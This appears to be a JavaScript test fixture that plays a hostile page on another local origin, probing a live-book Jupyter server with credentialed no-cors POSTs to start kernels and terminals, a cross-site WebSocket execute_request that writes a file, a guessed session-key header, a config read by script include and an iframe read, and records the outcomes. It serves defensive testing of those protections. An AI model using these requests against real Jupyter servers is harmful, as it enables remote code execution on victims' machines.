// The attack of a hostile page on another origin (another port of 127.0.0.1) against the servers of
// `make live`, run in a browser whose other tab holds a live session: read the live config (a
// script include is not subject to CORS), start a kernel with no-cors POSTs, read the kernel list,
// open the event stream and a kernel's channels over WebSocket and send an execute_request that
// would write a file, ask for a session token without the key, and frame a book page.
// Every outcome is recorded in window.attackResult.
(async function () {
  "use strict";
  var q = new URLSearchParams(location.search);
  var book = q.get("book"), kernel = q.get("kernel"), marker = q.get("marker");
  var r = { cookie: document.cookie, storage: JSON.stringify(Object.assign({}, sessionStorage)) };

  await new Promise(function (resolve) {
    var s = document.createElement("script");
    s.src = book + "_static/book-live-config.js";
    s.onload = resolve; s.onerror = resolve;
    document.head.appendChild(s);
  });
  r.config = JSON.stringify(window.BOOK_LIVE === undefined ? null : window.BOOK_LIVE);

  try {
    await fetch(book + "jupyter/api/kernels", { method: "POST", mode: "no-cors",
                                               credentials: "include", body: "{}" });
    r.post = "sent";
  } catch (e) { r.post = "failed: " + e; }
  try {
    await fetch(book + "jupyter/api/kernels?token=" + encodeURIComponent(r.config),
                { method: "POST", mode: "no-cors", credentials: "include" });
    r.postToken = "sent";
  } catch (e) { r.postToken = "failed: " + e; }
  try {
    await fetch(book + "jupyter/api/terminals", { method: "POST", mode: "no-cors",
                                                 credentials: "include" });
    r.terminal = "sent";
  } catch (e) { r.terminal = "failed: " + e; }
  try {
    var res = await fetch(book + "jupyter/api/kernels", { credentials: "include" });
    r.list = "read " + res.status + " " + (await res.text());
  } catch (e) { r.list = "not readable: " + e; }
  // a session token for this page: without the key (no-cors cannot send the key header), and with
  // a guessed key (a CORS request: its preflight is refused)
  try {
    await fetch(book + "live-session", { method: "POST", mode: "no-cors", credentials: "include" });
    r.exchange = "sent";
  } catch (e) { r.exchange = "failed: " + e; }
  try {
    var ex = await fetch(book + "live-session", { method: "POST", credentials: "include",
                                                 headers: { "X-Book-Live-Key": "guess" } });
    r.exchangeKey = "read " + ex.status + " " + (await ex.text());
  } catch (e) { r.exchangeKey = "not readable: " + e; }

  function ws(url, send) {
    return new Promise(function (resolve) {
      var w, opened = false, done = false, got = [];
      function finish(v) { if (!done) { done = true; resolve(v); } }
      try { w = new WebSocket(url); } catch (e) { return finish("throw: " + e); }
      w.onopen = function () {
        opened = true;
        if (send) w.send(send);
        setTimeout(function () { finish("open; received " + got.length + " messages"); }, 3000);
      };
      w.onmessage = function (m) { got.push(String(m.data).slice(0, 200)); };
      w.onerror = function () { if (!opened) finish("error"); };
      w.onclose = function (e) { if (!opened) finish("closed " + e.code); };
      setTimeout(function () { finish(opened ? "open" : "timeout"); }, 10000);
    });
  }
  var wsbase = book.replace(/^http/, "ws");
  r.events = await ws(wsbase + "jupyter/api/events/subscribe");
  var msg = {
    header: { msg_id: "attack-1", username: "attacker", session: "attack", msg_type: "execute_request",
              version: "5.3", date: new Date().toISOString() },
    parent_header: {}, metadata: {}, channel: "shell", buffers: [],
    content: { code: "open(" + JSON.stringify(marker) + ", 'w').write('code ran')", silent: false,
               store_history: false, user_expressions: {}, allow_stdin: false, stop_on_error: true },
  };
  r.channels = await ws(wsbase + "jupyter/api/kernels/" + kernel + "/channels", JSON.stringify(msg));

  // framing: a book page in an iframe of this page (refused by frame-ancestors / X-Frame-Options)
  r.frame = await new Promise(function (resolve) {
    var f = document.createElement("iframe");
    f.src = book + "chapters/intro.html";
    f.onload = function () {
      try { resolve("readable: " + f.contentWindow.document.title); }
      catch (e) { resolve("loaded, not readable"); }
    };
    document.body.appendChild(f);
    setTimeout(function () { resolve("timeout"); }, 10000);
  });
  window.attackResult = r;
  window.attackDone = true;
})();
